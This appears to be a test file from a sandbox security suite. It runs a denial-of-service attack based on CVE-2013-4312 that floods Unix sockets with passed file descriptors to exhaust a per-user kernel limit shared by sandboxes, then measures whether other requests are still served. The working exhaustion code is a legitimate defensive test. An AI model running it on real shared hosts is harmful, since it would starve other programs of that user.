# attack: use up what the user may have in flight
# tries: a program keeps thousands of descriptors in the queues of Unix sockets, which the kernel counts for the user and not for the sandbox,
#   while other requests need descriptors passed to them
# source: CVE-2013-4312 (the limit of descriptors in flight, per user); the unprivileged server's sandboxes share one user
# expect: others are served while it holds them
# stopped-by: resource_limits; user_namespace where each sandbox has users of its own
# control: host-unsafe: it would take what every program of that user on the machine shares
# on: host
import attack, threading, time

server = attack.server()
program = """
import os, socket, time
files = [os.open('/dev/null', os.O_RDONLY) for _ in range(253)]
kept, sent = [], 0
try:
    for _ in range(200):
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        kept += [a, b]
        for _ in range(8):
            a.setblocking(False)
            socket.send_fds(a, [b'x'], files)
            sent += len(files)
except OSError as error:
    print(error, flush=True)
for _ in range(30):
    if os.fork() == 0:
        # Each sender is looked at before it sends, not after.
        for _ in range(1000):
            try:
                socket.send_fds(kept[0], [b'x'], files)
            except OSError:
                pass
        time.sleep(3)
        os._exit(0)
time.sleep(2.5)
print(sent)
"""
answers = []
config = {"commands": [{"command": "python3 -c \"$P\"", "timeout": 3.5}], "environ": {"P": program}}
thread = threading.Thread(target=lambda: answers.append(attack.execute(server, config)))
thread.start()
time.sleep(0.8)
served = 0
while thread.is_alive():
    attack.served(server)
    served += 1
thread.join()
attack.held(f"{served} requests were served meanwhile; {answers[0].json()['execution'][0]['stdout']!r} in flight")
